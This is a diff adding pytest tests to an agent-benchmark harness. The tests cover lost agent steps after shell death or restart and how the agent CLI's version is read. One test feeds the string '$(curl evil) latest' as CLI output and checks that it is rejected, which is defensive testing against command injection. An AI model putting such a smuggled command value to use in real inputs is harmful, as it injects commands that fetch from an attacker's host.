@@ -10,7 +10,7 @@ from pathlib import Path
 import pytest
 
 from durabench.attempt import Attempt, AttemptSetup, parse_reward
-from durabench.errors import RewardFileMissing, RewardParseError
+from durabench.errors import NON_RETRYABLE, AgentLost, RewardFileMissing, RewardParseError
 from durabench.models import AttemptRef, ClassifyAttemptInput, TaskRef
 from durabench.paths import FINAL_MESSAGE, TRAJECTORY, SandboxPaths
 from durabench.sandbox import ExecResult
@@ -90,6 +90,37 @@ def test_a_retried_agent_phase_reattaches_and_never_runs_the_agent_twice(tmp_pat
     again = asyncio.run(attempt.run_agent({}))
     assert again.reattached and again.exit_code == 0
     assert len([c for c in sb.calls if c.detached]) == 1
+
+
+def _dead_shell(sb: MemorySandbox, call: Call) -> ExecResult | None:
+    """The step's root shell (pid 42) is gone: the liveness probe says so (exit 3)."""
+    if "/proc/42/stat" in call.cmd[-1]:
+        return ExecResult(3, "", "", False)
+    return None
+
+
+def test_a_reattached_step_whose_shell_died_ends_the_attempt_as_lost(tmp_path: Path) -> None:
+    sb = MemorySandbox(handler=_dead_shell)
+    _workspace(sb)
+    attempt = _attempt(tmp_path, sb)
+    asyncio.run(attempt.provision({}))
+    sb.files[f"{P.steps}/step-0.started"] = b"5 42 1234 0e21345a-320e-4bbf-8efc-f3d207f2b747\n"
+    sb.files[f"{P.steps}/step-0.done"] = b"running\n"  # and it never will be anything else
+    with pytest.raises(AgentLost, match="pid 42") as err:
+        asyncio.run(attempt.run_agent({}))
+    assert type(err.value) in NON_RETRYABLE  # the attempt ends infra_other, not retried
+    assert not [c for c in sb.calls if c.detached]  # never started again
+
+
+def test_a_step_launched_before_a_restart_is_lost_not_run_again(tmp_path: Path) -> None:
+    sb = MemorySandbox(handler=_agent_fixes_the_bug)
+    _workspace(sb)
+    attempt = _attempt(tmp_path, sb)
+    asyncio.run(attempt.provision({}))
+    sb.files[f"{P.launches}/step-0"] = b"42\n"  # the markers went with the restart
+    with pytest.raises(AgentLost, match="restarted"):
+        asyncio.run(attempt.run_agent({}))
+    assert not [c for c in sb.calls if c.detached]
 
 
 def _verifier(reward: bytes | None) -> object:
@@ -301,3 +332,51 @@ def test_collect_writes_no_trajectory_for_an_agent_without_a_transcript(tmp_path
     asyncio.run(_attempt(tmp_path, sb).collect())
     assert (tmp_path / "agent" / "stdout.txt").exists()
     assert not (tmp_path / TRAJECTORY).exists()
+
+
+def _cli_prints(printed: str) -> object:
+    def handle(sb: MemorySandbox, call: Call) -> ExecResult | None:
+        if "--version" in call.cmd[-1]:
+            return ExecResult(exit_code=0, stdout=printed, stderr="", timed_out=False)
+        return None
+
+    return handle
+
+
+def test_provision_asks_the_cli_its_version_as_the_agent_user(tmp_path: Path) -> None:
+    sb = MemorySandbox(handler=_cli_prints("2.1.332 (Claude Code)\n"))  # type: ignore[arg-type]
+    _workspace(sb)
+    out = asyncio.run(_attempt(tmp_path, sb, agent="claude-code").provision({}))
+    assert out.cli_version == "2.1.332"
+    asked = [c for c in sb.calls if "--version" in c.cmd[-1]]
+    assert [c.user for c in asked] == ["agent"]
+    assert "head -c" in asked[0].cmd[-1]  # the CLI's output is capped in the sandbox
+
+
+def test_a_cli_printing_no_plain_version_names_none_and_an_oracle_is_not_asked(
+    tmp_path: Path,
+) -> None:
+    (tmp_path / "o").mkdir()
+    sb = MemorySandbox(handler=_cli_prints("$(curl evil) latest\n"))  # type: ignore[arg-type]
+    _workspace(sb)
+    out = asyncio.run(_attempt(tmp_path, sb, agent="claude-code").provision({}))
+    assert out.cli_version is None
+    oracle = MemorySandbox(handler=_cli_prints("2.1.332\n"))  # type: ignore[arg-type]
+    _workspace(oracle)
+    assert asyncio.run(_attempt(tmp_path / "o", oracle).provision({})).cli_version is None
+    assert not [c for c in oracle.calls if "--version" in c.cmd[-1]]
+
+
+def test_classify_takes_the_cli_version_from_the_transcript_s_init_event(tmp_path: Path) -> None:
+    sb = MemorySandbox()
+    sb.files[f"{P.output}/stdout.txt"] = (
+        b'{"type": "system", "subtype": "init", "model": "claude-haiku-4-5", '
+        b'"claude_code_version": "2.1.140"}\n'
+        b'{"type": "result", "subtype": "success", "is_error": false, "result": "Done."}\n'
+    )
+    attempt = _attempt(tmp_path, sb, agent="claude-code")
+    now = datetime(2026, 11, 26, 12, 0, tzinfo=UTC)
+    verdict = asyncio.run(
+        attempt.classify(_facts(attempt.ref, 0), now=now, cap_cooldown=timedelta(hours=1))
+    )
+    assert verdict.cli_version == "2.1.140"
